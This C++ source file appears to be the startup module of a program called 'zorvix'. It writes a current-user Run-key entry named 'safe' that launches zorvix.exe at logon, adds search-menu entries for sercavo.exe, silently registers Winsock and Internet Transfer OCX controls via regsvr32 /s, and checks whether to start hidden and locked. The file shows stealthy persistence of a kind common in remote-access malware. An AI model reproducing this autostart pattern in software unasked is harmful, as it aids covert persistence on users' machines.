#include "guard/startup/guard_state.h"

#include "common/explorer_entries.h"
#include "common/text.h"

namespace zorvix {

GuardState& Guard() {
  static GuardState state;
  return state;
}

bool StartsHiddenAndLocked(std::wstring_view commandLine) {
  auto n = common::ParseNumber(commandLine);
  return !n || *n == 1.0;
}

std::wstring JoinPath(std::wstring_view folder, std::wstring_view file) {
  if (file.starts_with(L"\\")) file.remove_prefix(1);
  return common::WithTrailingSlash(folder) + std::wstring(file);
}

std::wstring QuoteIfSpaced(std::wstring_view path) {
  if (path.find(L' ') == std::wstring_view::npos) return std::wstring(path);
  return L"\"" + std::wstring(path) + L"\"";
}

std::vector<common::RegEntry> FirstRunEntries(std::wstring_view folder) {
  std::vector<common::RegEntry> entries{{common::RegRoot::CurrentUser,
                                         L"software\\microsoft\\windows\\currentversion\\run", L"safe",
                                         QuoteIfSpaced(JoinPath(folder, L"\\zorvix.exe"))}};
  for (common::RegEntry& e : common::SearchMenuEntries(JoinPath(folder, L"\\sercavo.exe")))
    entries.push_back(std::move(e));
  return entries;
}

std::vector<std::wstring> RegistrarCommands(std::wstring_view systemFolder, std::wstring_view folder) {
  std::vector<std::wstring> lines;
  std::wstring registrar = QuoteIfSpaced(JoinPath(systemFolder, L"regsvr32.exe"));
  for (const wchar_t* file : {L"\\COMDLG32.OCX", L"\\MSCOMCTL.OCX", L"\\MSWINSCK.OCX", L"\\MSINET.OCX"})
    lines.push_back(registrar + L"  /s " + QuoteIfSpaced(JoinPath(folder, file)));
  return lines;
}

}  // namespace zorvix
